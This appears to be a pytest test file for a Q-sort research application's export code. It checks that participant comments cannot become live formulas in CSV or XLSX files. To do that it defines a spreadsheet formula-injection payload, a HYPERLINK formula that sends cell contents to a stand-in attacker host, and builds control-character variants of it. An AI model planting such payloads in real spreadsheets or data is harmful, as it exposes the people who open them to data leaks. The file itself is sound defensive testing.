"""No text a participant writes can become a live formula in a CSV or XLSX export."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from qsort.exchange import services, writers
from qsort.exchange.safety import FORMULA_STARTS, neutralise, restore
from qsort.exchange.tables import Table
from qsort.participate import services as participate
from qsort.runs.models import AnalysisRun
from qsort.runs.services import start_run
from qsort.studies.services import submit_sort
from tests.runs_support import add_sorts, execute

CONTROLS = ["", "\x01", "\x00", "\x08", "\x0b", "\x1f", "\x01\x02"]
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [control + start + ATTACK[1:] for control in CONTROLS for start in FORMULA_STARTS]


def _runs_as_formula(text: str) -> bool:
    return text.lstrip(" \t\r\n").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_prefix_with_control_characters_before_it_is_quoted(text):
    cell = neutralise(text)
    assert cell.startswith("'")
    assert not any(ch in cell for ch in "\x00\x01\x02\x08\x0b\x1f")
    assert restore(cell) == cell[1:]


def test_the_issue_reproduction_is_quoted():
    assert neutralise("\x01" + ATTACK) == "'" + ATTACK


def _cells(workbook_bytes: bytes):
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_an_xlsx_holds_every_payload_as_a_text_cell_and_no_formula():
    table = Table("Comments", ("comment",), [(text,) for text in PAYLOADS])
    body = writers.xlsx_bytes([table])
    cells = _cells(body)[1:]
    assert len(cells) == len(PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.value.startswith("'")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_even_unneutralised_text_is_written_as_a_string(monkeypatch):
    """Defence in depth: the XLSX writer itself never writes a formula cell."""
    monkeypatch.setattr(writers, "neutralise", lambda value: value)
    cells = _cells(writers.xlsx_bytes([Table("T", ("x",), [("=1+1",)])]))
    assert cells[1].value == "=1+1" and cells[1].data_type == "s"


def test_csv_cells_are_quoted_after_control_characters_are_removed():
    body = writers.csv_bytes(Table("T", ("comment",), [(text,) for text in PAYLOADS])).decode()
    lines = body.split("\r\n")[1:-1]
    assert all(not _runs_as_formula(line.strip('"')) for line in lines)


@pytest.mark.django_db
def test_report_xlsx_of_a_real_run_holds_no_formula(study, owner):
    add_sorts(study, 5)
    participant = study.invite(codes=["EVIL"])[0]
    participate.consent(participant)
    submit_sort(
        participant,
        [(1, -1), (2, -1), (3, 0), (4, 0), (5, 1), (6, 1)],
        comments={"1": "\x01" + ATTACK, "6": "\x02@SUM(A1)"},
    )
    run = execute(start_run(study, owner, {"factors": 2, "extraction": "pca", "rotation": "varimax"}))
    assert run.status == AnalysisRun.Status.DONE
    for name in ("report.xlsx", "factor-arrays.xlsx"):
        cells = _cells(services.export_run_file(run, name, owner).body)
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [t for t in texts if _runs_as_formula(t)], name
    comments = [c.value for c in _cells(services.export_run_file(run, "report.xlsx", owner).body)]
    assert "'" + ATTACK in comments and "'@SUM(A1)" in comments
